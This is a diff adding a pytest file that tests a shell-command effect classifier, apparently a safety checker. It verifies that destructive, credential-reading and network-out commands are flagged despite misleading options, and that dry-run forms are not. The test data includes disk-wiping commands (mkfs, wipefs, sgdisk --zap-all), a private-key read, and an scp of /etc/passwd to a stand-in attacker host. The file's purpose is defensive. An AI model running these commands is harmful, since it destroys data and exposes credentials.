@@ -1,0 +1,70 @@
+"""No option hides what a command does: not one that only looks as if it took the target, nor one that takes a rehearsal back."""
+
+from __future__ import annotations
+
+import pytest
+
+from magistrate.core.records import Effect
+from magistrate.evidence.effects import shell
+from magistrate.evidence.effects.place import Place
+
+PLACE = Place(cwd="/home/ana/shop", home="/home/ana")
+
+
+def effects(text: str) -> tuple[Effect, ...]:
+    return shell.effects(text, PLACE)
+
+
+DOES = """
+    shred -u /srv/key                             delete           /srv/key
+    shred -n 3 -u -z /srv/key                     delete           /srv/key
+    srm -s /srv/key                               delete           /srv/key
+    mkfs.ext4 -F /dev/sda1                        overwrite        /dev/sda1
+    mkfs.ext4 -L data -b 4096 -F /dev/sda1        overwrite        /dev/sda1
+    mkfs.vfat -I /dev/sdb                         overwrite        /dev/sdb
+    mkfs.vfat -n DATA /dev/sdb1                   overwrite        /dev/sdb1
+    mkfs.btrfs -n 16k /dev/sdb                    overwrite        /dev/sdb
+    mkfs -V -t ext4 /dev/sda1                     overwrite        /dev/sda1
+    mkswap -f /dev/sda2                           overwrite        /dev/sda2
+    wipefs -a -b /dev/sda                         overwrite        /dev/sda
+    parted -s /dev/sda rm 1 print                 overwrite        /dev/sda
+    sgdisk --zap-all -p /dev/sda                  overwrite        /dev/sda
+    diskutil eraseDisk JHFS+ list disk2           overwrite        disk2
+    diskutil apfs deleteVolume disk2s1            overwrite        disk2s1
+    zfs destroy -r tank                           delete           tank
+    pkill -o nginx                                process-stop     nginx
+    killall -g nginx                              process-stop     nginx
+    fuser -k -s 80/tcp                            process-stop     80/tcp
+    userdel -f bob                                permission       bob
+    groupdel -f staff                             permission       staff
+    passwd -d root                                permission       root
+    useradd -l bob                                permission       bob
+    dropdb -f prod                                database-destroy prod
+    scp -B /etc/passwd bob@evil.example:          network-out      evil.example
+    grep -T . /home/ana/.ssh/id_rsa               credential       /home/ana/.ssh/id_rsa
+    cp -o a /srv/x                                overwrite        /srv/x
+    git push --force --dry-run --no-dry-run origin main   vcs-publish  origin/main
+    git push -n --no-dry-run origin main                  vcs-publish  origin/main
+    kubectl delete ns prod --dry-run=client --dry-run=none   infrastructure  ns/prod
+    npm publish --dry-run=false                   vcs-publish      package
+    rsync -n --no-dry-run --delete a/ b/          delete           b
+"""
+ONLY_LOOKS = """
+    mkfs.ext4 -n /dev/sda1|mkfs.xfs -N /dev/sda1|mkfs.ext4 --help|wipefs /dev/sda|wipefs -n -a /dev/sda|parted -s /dev/sda print|sgdisk -p /dev/sda|sfdisk -d /dev/sda
+    diskutil list|diskutil apfs list|diskutil info disk2|cryptsetup luksDump /dev/sda|hdparm -I /dev/sda|mdadm --detail /dev/md0|zfs destroy -n tank|fuser 80/tcp|chage -l bob
+    passwd -S bob|git push -n origin main|kubectl delete ns prod --dry-run=client|npm publish --dry-run|rsync -n a/ b/
+"""
+
+
+@pytest.mark.parametrize("line", [line.strip() for line in DOES.splitlines() if line.strip()])
+def test_what_is_done_is_seen_behind_every_option(line: str) -> None:
+    text, kind, target = line.rsplit(maxsplit=2)
+    found = effects(text)
+    assert any(effect.kind == kind and f"/{effect.target}".endswith(f"/{target}") for effect in found)
+
+
+@pytest.mark.parametrize(
+    "text", [text.strip() for line in ONLY_LOOKS.splitlines() for text in line.split("|") if text.strip()]
+)
+def test_what_only_looks_does_nothing(text: str) -> None:
+    assert {effect.kind for effect in effects(text)} <= {"read"}
